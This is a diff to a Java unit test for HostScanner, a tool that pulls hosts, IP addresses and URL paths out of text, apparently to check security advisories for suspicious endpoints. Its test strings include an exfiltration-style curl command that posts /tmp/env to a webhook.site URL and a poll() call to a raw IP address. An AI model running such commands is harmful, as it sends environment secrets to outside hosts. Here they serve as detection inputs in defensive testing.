@@ -26,7 +26,7 @@ class HostScannerTest {
 
         assertThat(HostScanner.hosts(osv)).contains("litellm.cloud", "models.litellm.cloud");
         // each with the line it is first on
-        assertThat(HostScanner.hostLines(osv)).containsEntry("litellm.cloud", 25)
+        assertThat(HostScanner.hostLines(osv, false)).containsEntry("litellm.cloud", 25)
                 .containsEntry("models.litellm.cloud", 28);
     }
 
@@ -34,12 +34,12 @@ class HostScannerTest {
     void aHostsLineIsTheFirstItIsOnWhateverTheLineEndings() {
         byte[] text = "first line\r\nsee https://webhook.site/x\n\nand webhook.site again\nthen evil.example.com"
                 .getBytes(java.nio.charset.StandardCharsets.US_ASCII);
-        assertThat(HostScanner.hostLines(text)).containsExactly(java.util.Map.entry("webhook.site", 2),
+        assertThat(HostScanner.hostLines(text, false)).containsExactly(java.util.Map.entry("webhook.site", 2),
                 java.util.Map.entry("evil.example.com", 5));
     }
 
     @Test
-    void urlsBareNamesAndMailAddressesCountButVersionsAndFileNamesDoNot() {
+    void urlsBareNamesMailAndIpAddressesCountButVersionsAndFileNamesDoNot() {
         String text = """
                 curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
                 see docs at example.com. or mail ops@corp.example.org
@@ -48,7 +48,23 @@ class HostScannerTest {
                 """;
 
         assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
-                .containsExactly("webhook.site", "example.com", "corp.example.org");
+                .containsExactly("webhook.site", "example.com", "corp.example.org", "10.0.0.1");
+    }
+
+    @Test
+    void withUrlsAUrlsPathIsKeptBesideItsHostWithoutSchemeOrPort() {
+        String text = """
+                curl -s -d @/tmp/env https://Webhook.Site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7 "x"
+                poll("http://142.11.206.73:8000/6202033"); see [the API](https://api.github.com/search/commits?q=x).
+                just a host https://example.com/ and example.org
+                """;
+
+        assertThat(HostScanner.hostLines(text.getBytes(StandardCharsets.UTF_8), true).keySet()).containsExactly(
+                "webhook.site", "142.11.206.73", "api.github.com", "example.com", "example.org",
+                "webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", "142.11.206.73/6202033",
+                "api.github.com/search/commits?q=x");
+        assertThat(HostScanner.hosts(text.getBytes(StandardCharsets.UTF_8)))
+                .noneMatch(HostScanner::isUrl);
     }
 
     @Test
